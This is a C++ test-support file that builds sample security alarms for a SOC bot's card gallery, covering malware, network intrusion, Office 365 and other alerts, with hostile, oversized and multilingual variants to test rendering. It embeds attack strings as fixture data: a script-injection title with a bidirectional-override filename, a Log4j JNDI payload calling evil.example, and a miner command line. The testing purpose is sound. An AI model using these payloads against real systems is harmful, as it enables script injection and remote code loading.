// See gallery_alarms.h.
#include "unit/domain/cards/gallery_alarms.h"

#include "unit/domain/cards/card_samples.h"

#include <array>
#include <iterator>
#include <utility>

namespace socbot::testing_support {
namespace {

// Reversed text is one of the things a hostile title holds.
constexpr const char* kHostile{
    // NOLINTNEXTLINE(misc-misleading-bidirectional)
    "<script>alert(1)</script> [click](https://evil.example) **bold** @all `x` ${title} {{DATE()}} "
    "\xE2\x80\xAE"
    "gpj.exe \\ \" _a_ # 1. x & &lt;"};

constexpr const char* kSha256{"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"};

Endpoint endpoint(std::string ip, std::uint16_t port = 0) {
    Endpoint made;
    made.ip = std::move(ip);
    made.port = port;
    return made;
}

Alarm usual_other() {
    Alarm alarm;
    alarm.uid = "u-4";
    alarm.title = "Credential Abuse: Password Spraying Against VPN";
    alarm.severity = Severity::critical;
    alarm.time = kSeen;
    alarm.action = "login";
    alarm.outcome = "failure";
    alarm.category = "Authentication";
    alarm.devices.push_back({"VPN-GW-01", "203.0.113.130", {}, {}, {}});
    alarm.sources.push_back(endpoint("198.51.100.23"));
    alarm.sources[0].country = "BR";
    alarm.attacks.push_back({"Credential Access", {}, {}, "T1110"});
    alarm.plugin = "FortiGate";
    return alarm;
}

Alarm usual(Kind kind) {
    Alarm alarm = usual_other();
    if (kind == Kind::malware) {
        alarm = malware_alarm();
        alarm.files[0].sha256 = kSha256;
    }
    if (kind == Kind::network_intrusion) alarm = scan_alarm();
    if (kind == Kind::office365) alarm = office_alarm();
    if (alarm.src_url.empty()) alarm.src_url = "https://acme.alienvault.cloud/#/alarm/" + alarm.uid;
    return alarm;
}

Alarm bare_alarm() {
    Alarm alarm;
    alarm.uid = "u-5";
    alarm.title = "Alarm";
    alarm.time = kSeen;
    return alarm;
}

// Every text replaced by markup, script and template language.
Alarm hostile(Alarm alarm) {
    alarm.title = alarm.event_name = alarm.action = alarm.outcome = alarm.category = kHostile;
    alarm.app_name = alarm.http_user_agent = kHostile;
    for (User& user : alarm.users)
        user.name = user.email = kHostile;
    for (Device& device : alarm.devices)
        device.hostname = kHostile;
    for (File& file : alarm.files)
        file.name = file.path = kHostile;
    for (Process& process : alarm.processes)
        process.cmd_line = kHostile;
    for (Malware& malware : alarm.malware)
        malware.name = kHostile;
    return alarm;
}

// Long words without a place to break, and every list full.
Alarm crowded(Alarm alarm) {
    alarm.title = "Strategy with a long name: " + std::string(200, 'W');
    alarm.event_name = std::string(300, 'e');
    alarm.category = "Very-long-category-" + std::string(60, 'c');
    alarm.app_name = std::string(120, 'a');
    for (int i = 0; i < 32; ++i) {
        alarm.urls.push_back("https://" + std::string(60, 'h') + ".example/" + std::to_string(i));
        alarm.cve.push_back("CVE-2026-" + std::to_string(10'000 + i));
        alarm.users.push_back(
            {"person.with.a.very.long.name." + std::to_string(i), "ACME", {}, {}, UserRole::unknown}
        );
        alarm.files.push_back({std::string(100, 'f') + ".exe", {}, {}, {}, std::string(64, 'b')});
        Endpoint peer = endpoint("2001:db8:ffff:ffff:ffff:ffff:ffff:" + std::to_string(1000 + i));
        peer.organisation = std::string(80, 'o');
        alarm.sources.push_back(peer);
    }
    for (Process& process : alarm.processes)
        process.cmd_line = std::string(900, 'A');
    return alarm;
}

std::vector<GalleryAlarm> real_malware() {
    Alarm blocked = usual(Kind::malware);
    blocked.disposition = Disposition::blocked;
    blocked.devices[0].os = "Windows Server 2022";
    Alarm quarantined = usual(Kind::malware);
    quarantined.disposition = Disposition::quarantined;
    quarantined.malware[0].name = "Trojan:Win32/Wacatac.B!ml";
    quarantined.processes.clear();
    Alarm spread = usual(Kind::malware);
    spread.devices.push_back({"WKS-18", "10.20.0.18", {}, {}, {}});
    spread.devices.push_back({"WKS-19", "10.20.0.19", {}, {}, {}});
    spread.files[0].sha256.clear();
    spread.files[0].sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
    spread.processes.clear();
    Alarm linux_miner = usual(Kind::malware);
    linux_miner.title = "Cryptomining: XMRig";
    linux_miner.malware[0].name = "XMRig";
    linux_miner.devices[0] = {"web-03.acme.example", "10.20.7.3", {}, "Debian 12", {}};
    linux_miner.users[0] = {"www-data", {}, {}, {}, UserRole::actor};
    linux_miner.files[0] = {"kdevtmpfsi", "/tmp/kdevtmpfsi", {}, {}, kSha256};
    linux_miner.processes[0] = {
        "kdevtmpfsi", "/tmp/kdevtmpfsi -o pool.evil.example:3333 -u 4AB", "php-fpm8.2", {}, {}};
    return {
        {"blocked", blocked},
        {"quarantined", quarantined},
        {"spread", spread},
        {"linux", linux_miner}};
}

std::vector<GalleryAlarm> real_network() {
    Alarm answered = usual(Kind::network_intrusion);
    answered.title = "Command and Control: Cobalt Strike Beacon";
    answered.event_name = "ET MALWARE Cobalt Strike Beacon Observed";
    answered.signature_uid = "2033713";
    answered.severity = Severity::critical;
    answered.sources = {endpoint("10.20.0.77", 51512)};
    answered.sources[0].hostname = "wks-77";
    answered.destinations = {endpoint("198.51.100.9", 443)};
    answered.destinations[0].country = "MD";
    answered.destinations[0].organisation = "Example Bulletproof";
    answered.destinations[0].reputation = "C&C";
    answered.connection = {"outbound", "TCP", 18'230, 4'112, 40, 31};
    answered.http_hostname = "cdn.evil.example";
    answered.tls_sni = "cdn.evil.example";
    answered.tls_fingerprint = "72a589da586844d7f0818ce684948eea";
    answered.attacks = {{"Command and Control", {}, {}, "T1071.001"}};
    Alarm exploit = usual(Kind::network_intrusion);
    exploit.title = "Exploit: Apache Log4j RCE Attempt";
    exploit.event_name = "ET EXPLOIT Apache log4j RCE Attempt (http ldap)";
    exploit.disposition = Disposition::blocked;
    exploit.urls = {"http://www.acme.example/?x=${jndi:ldap://evil.example/a}"};
    exploit.cve = {"CVE-2021-44228", "CVE-2021-45046"};
    Alarm lateral = usual(Kind::network_intrusion);
    lateral.title = "Lateral Movement: SMB Sweep";
    lateral.sources = {endpoint("10.20.0.5", 50'000)};
    lateral.destinations.clear();
    for (int i = 1; i <= 14; ++i)
        lateral.destinations.push_back(endpoint("10.20.1." + std::to_string(i), 445));
    lateral.users.push_back({"svc_backup", "ACME", {}, {}, UserRole::actor});
    Alarm six = usual(Kind::network_intrusion);
    six.sources = {endpoint("2001:db8::bad:1", 40'000)};
    six.destinations = {endpoint("fd00::20", 22)};
    return {{"beacon", answered}, {"exploit", exploit}, {"lateral", lateral}, {"IPv6", six}};
}

std::vector<GalleryAlarm> real_office365() {
    Alarm guest = usual(Kind::office365);
    guest.users[0].email = "anna_partner.example#EXT#@acme.example";
    guest.title = "Anomalous User Behavior: Mass Download";
    guest.action = "FileDownloaded";
    guest.users.resize(1);
    guest.files.push_back({"Board minutes 2026.docx", {}, {}, {}, {}});
    Alarm legacy = usual(Kind::office365);
    legacy.title = "Credential Abuse: Successful Legacy Sign-in";
    legacy.action = "UserLoggedIn";
    legacy.app_name = "Office 365 Exchange Online";
    legacy.http_user_agent = "BAV2ROPC";
    legacy.users.resize(1);
    legacy.sources[0].city = "Lagos";
    legacy.sources[0].country = "NG";
    legacy.sources[0].organisation = "Example Mobile";
    Alarm consent = usual(Kind::office365);
    consent.title = "Persistence: Consent to Application";
    consent.action = "Consent to application.";
    consent.http_user_agent =
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0";
    Alarm failed = usual(Kind::office365);
    failed.title = "Brute Force Authentication: Multiple Failed Logons";
    failed.action = "UserLoginFailed";
    failed.outcome = "Failure";
    failed.users.resize(1);
    for (int i = 1; i < 9; ++i)
        failed.sources.push_back(endpoint("198.51.100." + std::to_string(i)));
    return {{"guest", guest}, {"legacy", legacy}, {"consent", consent}, {"failed", failed}};
}

std::vector<GalleryAlarm> real_other() {
    Alarm admin = usual(Kind::other);
    admin.title = "Privilege Escalation: User Added to Domain Admins";
    admin.users.push_back({"j.doe", "ACME", {}, {}, UserRole::actor});
    admin.users.push_back({"tmp_svc", "ACME", {}, {}, UserRole::target});
    admin.action = "Member added to security-enabled group";
    admin.outcome = "Success";
    Alarm cloud = usual(Kind::other);
    cloud.title = "Defense Evasion: CloudTrail Logging Disabled";
    cloud.devices.clear();
    cloud.users.push_back({"ci-deploy", {}, {}, {}, UserRole::actor});
    cloud.action = "StopLogging";
    cloud.app_name = "AWS";
    Alarm words = usual(Kind::other);
    words.title = "Policy Violation";
    words.action.clear();
    words.devices.clear();
    words.description = "A USB storage device was connected to a kiosk that should have none.";
    return {{"admin", admin}, {"cloud", cloud}, {"described", words}};
}

std::vector<GalleryAlarm> real(Kind kind) {
    switch (kind) {
        case Kind::malware:
            return real_malware();
        case Kind::network_intrusion:
            return real_network();
        case Kind::office365:
            return real_office365();
        case Kind::other:
            break;
    }
    return real_other();
}

// What is missing, how it ended, how bad it is and in which script it is told, by the bits of `n`.
Alarm varied(Alarm alarm, unsigned n) {
    constexpr std::array<const char*, 8> titles{
        "Brute Force: SSH",
        "\xD0\x9F\xD0\xBE\xD0\xB4\xD0\xB1\xD0\xBE\xD1\x80 \xD0\xBF\xD0\xB0\xD1\x80\xD0\xBE\xD0\xBB"
        "\xD1\x8F: RDP",
        "\xE4\xB8\x8D\xE5\xAF\xA9\xE3\x81\xAA\xE3\x83\xAD\xE3\x82\xB0\xE3\x82\xA4\xE3\x83\xB3: "
        "\xE6\x9D\xB1\xE4\xBA\xAC",
        "\xD7\xA0\xD7\x95\xD7\x96\xD7\xA7\xD7\x94: \xD7\xA7\xD7\x95\xD7\x91\xD7\xA5",
        "\xF0\x9F\x94\xA5 Fire: \xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x92\xBB",
        "Donaudampfschifffahrtsgesellschaftskapitaensmuetze: Verdacht",
        "A_b*c*d [e](f) ~g~ `h`: <i>",
        "e\xCC\x81\xCC\x82\xCC\x83 combining: o\xCC\x88"};
    alarm.title = titles[n % titles.size()];
    alarm.severity = static_cast<Severity>(n % 6);
    alarm.disposition = static_cast<Disposition>(n / 2 % 5);
    if ((n & 1U) != 0) alarm.users.clear();
    if ((n & 2U) != 0) alarm.devices.clear();
    if ((n & 4U) != 0) alarm.files.clear();
    if ((n & 8U) != 0) alarm.sources.clear();
    if ((n & 16U) != 0) alarm.attacks.clear();
    if (n % 3 == 0) alarm.src_url.clear();
    if (n % 5 == 0) alarm.destinations.clear();
    for (Device& device : alarm.devices)
        device.hostname += "-" + std::to_string(n);
    return alarm;
}

}  // namespace

std::vector<GalleryAlarm> gallery_alarms(Kind kind) {
    const Alarm first = usual(kind);
    std::vector<GalleryAlarm> all{{"usual", first}};
    for (GalleryAlarm& alarm : real(kind))
        all.push_back(std::move(alarm));
    all.push_back({"hostile", hostile(first)});
    all.push_back({"crowded", crowded(first)});
    all.push_back({"bare", bare_alarm()});
    for (unsigned n = 0; n < 36; ++n)
        all.push_back({"varied-" + std::to_string(n), varied(first, n)});
    return all;
}

}  // namespace socbot::testing_support
